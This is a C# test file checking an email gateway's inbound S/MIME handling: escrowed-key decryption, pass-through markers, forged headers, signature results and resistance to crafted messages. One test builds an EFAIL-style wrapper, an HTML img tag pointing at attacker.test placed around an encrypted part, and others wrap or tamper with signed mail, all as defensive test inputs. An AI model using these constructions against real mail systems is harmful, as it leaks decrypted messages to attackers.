using Gateway.Smime.Cms;
using MimeKit;
using MimeKit.Cryptography;

namespace Gateway.Pipeline.Tests.Smime;

/// <summary>
/// Inbound S/MIME through the real session handler: decryption with escrowed keys and its markers, the cases that
/// pass mail through unchanged, EFAIL-shaped messages, and signature verification reported as Authentication-Results.
/// </summary>
public sealed class SmimeInboundTests(SmimePki pki) : IClassFixture<SmimePki>
{
    private readonly SmimeHarness _org = new(pki);

    private static string Marker(string delivered) =>
        delivered[..delivered.IndexOf("\r\n\r\n", StringComparison.Ordinal)].Split("\r\n").Single(l => l.StartsWith("X-Gateway-SMIME:", StringComparison.Ordinal));

    [Fact]
    public async Task Mail_encrypted_for_an_escrowed_key_is_delivered_decrypted_with_a_marker_naming_the_key()
    {
        var sent = await SmimeHarness.EncryptedForAsync(_org.Carol);

        var (reply, parts) = await _org.SendInboundAsync(sent, "carol@example.test");

        Assert.Equal(250, reply.Code);
        var delivered = parts.Writer.Delivered;
        var message = SmimeHarness.Parse(delivered);
        var text = Assert.IsType<TextPart>(message.Body);
        Assert.Equal("The secret plan.", text.Text.TrimEnd());
        Assert.Equal("sealed", message.Subject);
        var marker = Marker(delivered);
        Assert.Contains("decrypted by mx.example.test", marker, StringComparison.Ordinal);
        Assert.Contains("key=carol@example.test", marker, StringComparison.Ordinal);
        // The test certificate advertises no capabilities, so the sender used AES-CBC: no integrity protection, and the marker says so,
        // naming the algorithm rather than giving its OID.
        Assert.Contains("; content=aes256-cbc; integrity=none", marker, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_a_key_sealed_or_to_a_domain_without_an_internal_route_the_mail_passes_unchanged_with_a_reason()
    {
        var forBob = await SmimeHarness.EncryptedForAsync(_org.Partner);
        var (noKey, noKeyParts) = await _org.SendInboundAsync(forBob, "carol@example.test");
        Assert.Equal(250, noKey.Code);
        Assert.Contains("reason=no-key", Marker(noKeyParts.Writer.Delivered), StringComparison.Ordinal);
        Assert.EndsWith(forBob, noKeyParts.Writer.Delivered, StringComparison.Ordinal);

        var forCarol = await SmimeHarness.EncryptedForAsync(_org.Carol);
        _org.Sealed = true;
        var (sealedReply, sealedParts) = await _org.SendInboundAsync(forCarol, "carol@example.test");
        Assert.Equal(250, sealedReply.Code);
        Assert.Contains("reason=vault-sealed", Marker(sealedParts.Writer.Delivered), StringComparison.Ordinal);
        Assert.EndsWith(forCarol, sealedParts.Writer.Delivered, StringComparison.Ordinal);

        _org.Sealed = false;
        _org.InternalRoute = false;
        var (routed, routedParts) = await _org.SendInboundAsync(forCarol, "carol@example.test");
        Assert.Equal(250, routed.Code);
        Assert.Contains("reason=route-not-internal", Marker(routedParts.Writer.Delivered), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Truncated_cms_is_delivered_unchanged_with_a_marker_and_nothing_is_lost()
    {
        var sent = await SmimeHarness.EncryptedForAsync(_org.Carol);
        var bodyStart = sent.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        var truncated = sent[..(bodyStart + ((sent.Length - bodyStart) / 2))] + "\r\n";

        var (reply, parts) = await _org.SendInboundAsync(truncated, "carol@example.test");

        Assert.Equal(250, reply.Code);
        Assert.Contains("reason=invalid", Marker(parts.Writer.Delivered), StringComparison.Ordinal);
        Assert.EndsWith(truncated, parts.Writer.Delivered, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_marker_field_sent_by_the_client_is_dropped()
    {
        var forged = "X-Gateway-SMIME: decrypted by mx.example.test; key=ceo@example.test\r\n" + SmimeHarness.Plain("carol@example.test");

        var (reply, parts) = await _org.SendInboundAsync(forged, "carol@example.test");

        Assert.Equal(250, reply.Code);
        Assert.DoesNotContain("X-Gateway-SMIME", parts.Writer.Delivered, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_encrypted_part_wrapped_between_attacker_html_is_decrypted_into_an_isolated_labelled_attachment()
    {
        var encrypted = SmimeHarness.Parse(await SmimeHarness.EncryptedForAsync(_org.Carol));
        var wrapper = new MimeMessage();
        wrapper.From.Add(MailboxAddress.Parse("eve@elsewhere.test"));
        wrapper.To.Add(MailboxAddress.Parse("carol@example.test"));
        wrapper.Subject = "efail";
        var mixed = new Multipart("mixed")
        {
            new TextPart("html") { Text = "<img src=\"http://attacker.test/" },
            encrypted.Body!,
            new TextPart("html") { Text = "\">" },
        };
        wrapper.Body = mixed;

        var (reply, parts) = await _org.SendInboundAsync(SmimeHarness.Write(wrapper), "carol@example.test");

        Assert.Equal(250, reply.Code);
        var delivered = parts.Writer.Delivered;
        Assert.Contains("decrypted-isolated", Marker(delivered), StringComparison.Ordinal);
        var body = Assert.IsType<Multipart>(SmimeHarness.Parse(delivered).Body);
        Assert.Equal(3, body.Count);
        var isolated = Assert.IsType<MessagePart>(body[1]);
        Assert.True(isolated.ContentDisposition?.IsAttachment);
        Assert.Contains("decrypted", isolated.Headers[HeaderId.ContentDescription]!, StringComparison.Ordinal);
        Assert.Equal("The secret plan.", Assert.IsType<TextPart>(isolated.Message!.Body).Text.TrimEnd());

        // The plaintext never sits inline between the attacker's parts.
        Assert.All(new[] { body[0], body[2] }, p => Assert.DoesNotContain("secret", ((TextPart)p).Text, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_hundred_deep_nesting_around_an_envelope_is_delivered_without_a_crash()
    {
        var sent = await SmimeHarness.EncryptedForAsync(_org.Carol);
        MimeEntity entity = SmimeHarness.Parse(sent).Body!;
        for (var i = 0; i < 100; i++)
        {
            entity = new Multipart("mixed") { entity };
        }

        var wrapper = new MimeMessage { Subject = "deep", Body = entity };
        wrapper.From.Add(MailboxAddress.Parse("eve@elsewhere.test"));

        var (reply, parts) = await _org.SendInboundAsync(SmimeHarness.Write(wrapper), "carol@example.test");

        Assert.Equal(250, reply.Code);
        Assert.DoesNotContain("The secret plan", parts.Writer.Delivered, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_signed_message_gets_an_smime_authentication_result_and_its_signer_certificate_is_kept()
    {
        var signed = await SignedByAsync(_org.Outsider);

        var (reply, parts) = await _org.SendInboundAsync(signed, "carol@example.test");

        Assert.Equal(250, reply.Code);
        var field = SmimeResult(parts.Writer.Delivered);
        Assert.Contains("smime=pass", field, StringComparison.Ordinal);
        Assert.Contains("body.smime-identifier=eve@elsewhere.test", field, StringComparison.Ordinal);
        Assert.DoesNotContain("smime-part", field, StringComparison.Ordinal);
        Assert.Single(_org.Harvested);
    }

    [Fact]
    public async Task A_signature_wrapped_into_a_bigger_multipart_is_reported_for_its_part_only()
    {
        var signed = SmimeHarness.Parse(await SignedByAsync(_org.Outsider));
        var wrapper = new MimeMessage { Subject = "meeting" };
        wrapper.From.Add(MailboxAddress.Parse("eve@elsewhere.test"));
        wrapper.Body = new Multipart("mixed") { new TextPart("plain") { Text = "Wire the money today.\r\n" }, signed.Body! };

        var (reply, parts) = await _org.SendInboundAsync(SmimeHarness.Write(wrapper), "carol@example.test");

        Assert.Equal(250, reply.Code);
        var field = SmimeResult(parts.Writer.Delivered);
        Assert.Contains("body.smime-part=2", field, StringComparison.Ordinal);
        Assert.Contains("only this part is signed", field, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_tampered_signed_message_fails()
    {
        var signed = await SignedByAsync(_org.Outsider);
        var tampered = signed.Replace("Meet at noon.", "Meet at nine.", StringComparison.Ordinal);
        Assert.NotEqual(signed, tampered);

        var (reply, parts) = await _org.SendInboundAsync(tampered, "carol@example.test");

        Assert.Equal(250, reply.Code);
        Assert.Contains("smime=fail", SmimeResult(parts.Writer.Delivered), StringComparison.Ordinal);
        Assert.Empty(_org.Harvested);
    }

    [Fact]
    public async Task Signed_then_encrypted_mail_is_decrypted_and_its_signature_verified_over_the_decrypted_bytes()
    {
        var signedMessage = SmimeHarness.Parse(await SignedByAsync(_org.Outsider));
        await new SmimeEncryptor().EncryptAsync(signedMessage, [new SmimeRecipient(_org.Carol.Certificate)], SmimeEncryptOptions.Default, default);

        var (reply, parts) = await _org.SendInboundAsync(SmimeHarness.Write(signedMessage), "carol@example.test");

        Assert.Equal(250, reply.Code);
        var delivered = parts.Writer.Delivered;
        Assert.Contains("key=carol@example.test", Marker(delivered), StringComparison.Ordinal);
        Assert.Contains("smime=pass", SmimeResult(delivered), StringComparison.Ordinal);
        Assert.IsType<MultipartSigned>(SmimeHarness.Parse(delivered).Body);
    }

    private static async Task<string> SignedByAsync(Gateway.Smime.Tests.Cms.TestIdentity signer)
    {
        var keys = new InMemorySmimeKeySource();
        keys.AddSigningKey(signer.Address, signer.PrivateKey, signer.Chain);
        var message = new MimeMessage();
        message.From.Add(MailboxAddress.Parse(signer.Address));
        message.To.Add(MailboxAddress.Parse("carol@example.test"));
        message.Subject = "meeting";
        message.Body = new TextPart("plain") { Text = "Meet at noon.\r\n" };
        await new SmimeSigner(keys, TimeProvider.System).SignAsync(message, signer.Address, SmimeSignOptions.Default, default);
        return SmimeHarness.Write(message);
    }

    private static string SmimeResult(string delivered)
    {
        var header = delivered[..delivered.IndexOf("\r\n\r\n", StringComparison.Ordinal)].Replace("\r\n\t", " ", StringComparison.Ordinal);
        return header.Split("\r\n").Single(l => l.StartsWith("Authentication-Results:", StringComparison.Ordinal) && l.Contains("smime=", StringComparison.Ordinal));
    }
}
